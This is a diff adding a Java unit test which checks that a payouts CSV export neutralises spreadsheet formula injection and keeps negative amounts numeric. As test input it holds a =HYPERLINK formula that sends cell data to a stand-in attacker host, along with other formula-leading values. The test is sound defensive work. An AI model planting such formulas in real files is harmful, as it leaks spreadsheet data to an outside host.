@@ -59,6 +59,32 @@ class PayoutsTest {
     }
   }
 
+  @ParameterizedTest
+  @EnumSource(SqlDialect.class)
+  void textThatASpreadsheetWouldRunAsAFormulaIsQuotedButAmountsAreNot(SqlDialect dialect) {
+    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
+      PaymentRows rows = new PaymentRows(db.dataSource());
+      String hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Pay\")";
+      rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
+      kitchen(db, "k-a", "host-a", hyperlink, "@evil.example", "2026-01-01 00:00:00+00");
+      rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", USD_40));
+      kitchen(db, "k-b", "host-b", "+1", "-2", "2026-01-01 00:00:00+00");
+      BookingRow c = rows.paid(rows.booking("-host-c", MID_W48, "COMPLETED", USD_40));
+      kitchen(db, "k-c", "-host-c", "@x", "\tx", "2026-01-01 00:00:00+00");
+      Payouts payouts = new Payouts(db.dataSource());
+
+      assertThat(payouts.payoutFor(W48, "admin-1", AFTER_W48).csv()).isEqualTo(Payouts.CSV_HEADER + "\r\n"
+          + "'-host-c,'@x,'\tx,USD,1,4000,600,0,3400\r\n"
+          + "host-a,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Pay\"\")\",'@evil.example,USD,1,4000,600,0,3400\r\n"
+          + "host-b,'+1,'-2,USD,1,4000,600,0,3400\r\n");
+
+      // A refund after the payout: the next line is negative, and a negative amount stays a number.
+      long share = rows.refund(c, "c-late", "PARTIAL", 1000, "SUCCEEDED", AFTER_W48.plusSeconds(60));
+      assertThat(payouts.payoutFor("2026-W49", "admin-1", AFTER_W49).csv()).isEqualTo(Payouts.CSV_HEADER + "\r\n"
+          + "'-host-c,'@x,'\tx,USD,0,0,0," + share + ",-" + share + "\r\n");
+    }
+  }
+
   private static void kitchen(ReadModelDatabase db, String id, String host, String name, String email, String created) {
     db.execute("INSERT INTO kitchens (kitchen_id, host_id, host_name, host_email, name, time_zone, currency,"
         + " hourly_rate_cents, tax_bps, status, slot_minutes, min_duration_minutes, max_duration_minutes,"
